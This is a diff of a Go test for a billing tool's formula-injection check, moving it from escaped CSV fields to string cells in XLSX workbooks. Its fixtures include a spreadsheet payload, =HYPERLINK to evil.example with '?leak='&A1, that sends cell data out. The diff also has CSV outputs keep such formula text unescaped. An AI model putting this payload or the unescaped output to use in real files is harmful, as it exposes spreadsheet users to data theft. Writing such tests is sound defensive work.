@@ -3,7 +3,6 @@ package main
 import (
 	"bytes"
 	"context"
-	"encoding/csv"
 	"fmt"
 	"os"
 	"path/filepath"
@@ -14,6 +13,8 @@ import (
 
 	"cspbill/ledger"
 	"cspbill/ledger/ledgertest"
+
+	"github.com/xuri/excelize/v2"
 )
 
 // The malformed-input tests run the real binary's ingest on each folder of
@@ -270,9 +271,12 @@ func checkMalformed(t *testing.T, c malformedCase, inbox string) {
 	}
 }
 
-// checkNoFormulas closes October and reads every CSV the close writes: a
-// text field never starts with =, +, -, @ (it gets a leading '), while
-// amounts keep their minus sign.
+// checkNoFormulas closes October and reads every file the close writes.
+// The CSV files keep each value as it was read: an order id or a name that
+// starts with =, +, - or @ is written as it is (they are the contract other
+// tools read), amounts keep their minus sign. In every workbook such a text
+// is a string cell with no formula: the SPEC's "written as text, never as a
+// formula".
 func checkNoFormulas(t *testing.T, url string) {
 	t.Helper()
 	out := t.TempDir()
@@ -281,27 +285,43 @@ func checkNoFormulas(t *testing.T, url string) {
 		t.Fatalf("close: exit %d\n%s%s", r.code, r.stdout, r.stderr)
 	}
 	amount := regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
-	escaped := 0
+	lines, _ := os.ReadFile(filepath.Join(out, "2026-10", "invoice-lines.csv"))
+	if !bytes.Contains(lines, []byte(`,USD,new,"=HYPERLINK(""http://evil.example"",""x"")",1,`)) {
+		t.Errorf("invoice-lines.csv lacks the order id as it was read:\n%s", lines)
+	}
+	invoices, _ := os.ReadFile(filepath.Join(out, "2026-10", "invoices.csv"))
+	for _, name := range []string{`"=HYPERLINK(""http://evil.example/?leak=""&A1,""Click for your invoice"")"`, ",+1 Cloud Inc,", ",@SUM(A1:A9) Ltd,", ",-2+3 GmbH,"} {
+		if !bytes.Contains(invoices, []byte(name)) {
+			t.Errorf("invoices.csv lacks the customer name %s as it was read:\n%s", name, invoices)
+		}
+	}
+	texts := 0
 	err := filepath.WalkDir(out, func(p string, e os.DirEntry, err error) error {
-		if err != nil || e.IsDir() || !strings.HasSuffix(p, ".csv") {
+		if err != nil || e.IsDir() || !strings.HasSuffix(p, ".xlsx") {
 			return err
 		}
-		f, err := os.Open(p)
-		if err != nil {
-			return err
-		}
-		defer f.Close()
-		rows, err := csv.NewReader(f).ReadAll()
+		f, err := excelize.OpenFile(p)
 		if err != nil {
 			return fmt.Errorf("%s: %w", p, err)
 		}
-		for _, row := range rows {
-			for _, v := range row {
-				if strings.HasPrefix(v, "'=") || strings.HasPrefix(v, "'@") || strings.HasPrefix(v, "'+") || strings.HasPrefix(v, "'-") {
-					escaped++
-				}
-				if v != "" && strings.ContainsAny(v[:1], "=+-@\t\r") && !amount.MatchString(v) {
-					t.Errorf("%s: field %q could run as a formula", p, v)
+		defer f.Close()
+		for _, sheet := range f.GetSheetList() {
+			rows, err := f.GetRows(sheet)
+			if err != nil {
+				return fmt.Errorf("%s %s: %w", p, sheet, err)
+			}
+			for i, row := range rows {
+				for j, v := range row {
+					if v == "" || !strings.ContainsAny(v[:1], "=+-@\t\r") || amount.MatchString(v) {
+						continue
+					}
+					ref, _ := excelize.CoordinatesToCellName(j+1, i+1)
+					formula, _ := f.GetCellFormula(sheet, ref)
+					typ, _ := f.GetCellType(sheet, ref)
+					if formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
+						t.Errorf("%s %s!%s %q: type %v formula %q, want a string cell", p, sheet, ref, v, typ, formula)
+					}
+					texts++
 				}
 			}
 		}
@@ -310,14 +330,10 @@ func checkNoFormulas(t *testing.T, url string) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	// Names of C201..C204 and order ids of three lines, in invoices.csv,
-	// invoice-lines.csv and the per-customer files.
-	if escaped < 8 {
-		t.Errorf("only %d escaped formula-looking fields in the close's files", escaped)
-	}
-	lines, _ := os.ReadFile(filepath.Join(out, "2026-10", "invoice-lines.csv"))
-	if !bytes.Contains(lines, []byte(`"'=HYPERLINK(""http://evil.example"",""x"")",1,`)) {
-		t.Errorf("invoice-lines.csv lacks the escaped order id:\n%s", lines)
+	// Names of C201..C204 and order ids of three lines, in invoices.xlsx
+	// and the per-customer workbooks.
+	if texts < 14 {
+		t.Errorf("only %d formula-looking texts in the close's workbooks", texts)
 	}
 }
 
